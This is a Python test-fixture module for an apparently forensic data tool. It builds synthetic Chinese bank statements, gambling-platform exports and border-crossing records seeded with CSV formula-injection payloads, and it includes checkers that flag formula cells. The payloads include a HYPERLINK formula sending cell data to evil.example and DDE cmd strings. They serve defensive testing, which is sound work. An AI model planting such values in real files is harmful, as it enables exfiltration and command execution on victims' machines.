"""Input files written here for the export, time-zone, formula-injection and report tests.

Realistic shapes: a 34-column GB18030 调单 statement with tab padding and ``="…"`` wrappers, a
网狐-style platform export (GameUser/BetRecord/RechargeOrder/WithdrawOrder CSVs), and a 出入境记录
file; the hostile values are what seized data and crafted statements really carry (OWASP CSV
injection examples: ``=HYPERLINK``, DDE ``+cmd|``, ``-1+1``, ``@SUM``, tab- and CR-prefixed forms).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from chainbreaker.synth.travel import CROSSING_HEADER
from ingest_bank.builders import HEADER_34, row34, write_csv

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看详情")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+3",
    "fullwidth": "＝1+4",
}
ZHANG_CARD = "6222021001112223334"
LI_CARD = "6228480012345678901"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def hostile_statement(folder: Path, *, time_text: str = "2024-03-01 09:00:00",
                      offset_time_text: str = "2024-03-01T09:00:00+08:00") -> Path:
    """张伟's 工商银行 statement: counterparties, summaries and remarks carrying formulas."""
    rows = [
        row34(交易卡号=f'="{ZHANG_CARD}"', 交易账号="0200001001000123456", 账户开户名称="张伟",
              开户人证件号码="11010519491231002X", 交易时间=time_text, 交易金额="5,000.00", 交易余额="12000.00",
              收付标志="出", 交易对手账卡号=LI_CARD, 对手户名=HOSTILE["hyperlink"], 对手开户银行="中国农业银行",
              摘要说明=HOSTILE["dde"], 备注=HOSTILE["minus"], 交易网点名称=HOSTILE["at"],
              交易流水号="ICBC20240301000123", 交易类型="网银转账"),
        row34(交易卡号=ZHANG_CARD, 交易账号="0200001001000123456", 账户开户名称="张伟",
              开户人证件号码="11010519491231002X", 交易时间=offset_time_text, 交易金额="-800.00",
              交易余额="11200.00", 收付标志="出", 交易对手账卡号="6217000010001234567", 对手户名='="=2+3"',
              对手开户银行="中国建设银行", 摘要说明='="a""b"', 备注=HOSTILE["fullwidth"],
              交易流水号="ICBC20240301000456", 交易类型="手机银行"),
    ]
    return write_csv(folder / "中国工商银行交易明细信息.csv", HEADER_34, rows)


def _write_plain_csv(path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def hostile_platform(folder: Path, *, naive_time: str = "2025-01-05 09:00:00",
                     offset_time: str = "2025-01-05 09:00:00+08:00") -> Path:
    """A seized 网狐-style export: agent 10001 with two members; usernames and names carry formulas."""
    _write_plain_csv(folder / "GameUser.csv", [
        "UserID", "Accounts", "SpreaderID", "AgentLevel", "Compellation", "PassPortID", "MobilePhone", "BankCard",
        "RegisterIP", "RegisterDate", "LastLogonIP", "LastLogonDate", "RegisterMachine"], [
        ["10001", HOSTILE["hyperlink"], "", "总代理", "王伟", "310104195901190005", "13800138000",
         "6222022199309104729", "10.0.0.1", naive_time, "10.0.0.1", offset_time, "DEV-1"],
        ["10002", HOSTILE["dde"], "10001", "代理", HOSTILE["at"], "310104195901190013", "", "6222022199311199309",
         "10.0.0.2", naive_time, "10.0.0.2", naive_time, "DEV-2"],
        ["10003", HOSTILE["minus"], "10002", "会员", "张三", "", "", "", "10.0.0.3", naive_time, "", "", "DEV-3"],
        ["10004", '="=2+3"', "10002", "会员", "李四", "", "", "", "10.0.0.4", naive_time, "", "", "DEV-4"],
    ])
    _write_plain_csv(folder / "BetRecord.csv", [
        "OrderID", "UserID", "GameName", "Period", "BetAmount", "WinAmount", "ValidBet", "Rebate", "BetTime"], [
        ["B1", "10003", HOSTILE["dde"], "20250001", "100.00", "195.00", "100.00", "0.80", naive_time],
        ["B2", "10004", "幸运飞艇", "20250002", "200.00", "0.00", "200.00", "1.60", offset_time],
    ])
    _write_plain_csv(folder / "RechargeOrder.csv", [
        "OrderNo", "UserID", "Amount", "PayChannel", "PayeeAccount", "Status", "PayTime"], [
        ["D1", "10003", "300.00", HOSTILE["hyperlink"], "6217000000022106361", "成功", naive_time],
    ])
    _write_plain_csv(folder / "WithdrawOrder.csv", [
        "OrderNo", "UserID", "Amount", "BankCard", "Status", "ApplyTime"], [
        ["W1", "10003", "150.00", "6222022199311199309", "已打款", naive_time],
    ])
    return folder


def hostile_crossings(folder: Path, *, naive_time: str = "2026-01-05 10:00:00",
                      offset_time: str = "2026-01-20 10:00:00+08:00") -> Path:
    """出入境记录 (GB18030): a traveller whose name field carries a formula."""
    def row(name: str, idn: str, when: str, direction: str) -> list[str]:
        return [name, "中国", "男", idn, "普通护照", "E1234567", "", when, "昆明长水机场", "", "柬埔寨", direction,
                "航空", "", "", "云南省昆明市"]

    return _write_plain_csv(folder / "出入境记录.csv", CROSSING_HEADER, [
        row(HOSTILE["at"], "11010519491231002X", naive_time, "出境"),
        row("王五", "530102199001011231", naive_time, "出境"),
        row("王五", "530102199001011231", offset_time, "入境"),
    ], encoding="gb18030")


def formula_cells_in_csv(path: Path) -> list[str]:
    """Cells a spreadsheet would run as a formula: start with a trigger and are not plain numbers."""
    text = path.read_text("utf-8-sig")
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.match(cell):
                bad.append(cell)
    return bad


def formula_cells_in_xlsx(path: Path) -> list[str]:
    """Cells stored as formulas (openpyxl ``data_type == 'f'``) and, to be sure, any ``<f>`` element."""
    import openpyxl

    bad = []
    wb = openpyxl.load_workbook(path, read_only=True)  # formulas are kept as formulas (data_type 'f')
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if getattr(cell, "data_type", None) == "f":
                    bad.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
    wb.close()
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name):
                bad.append(f"{name}: <f>")
    return bad
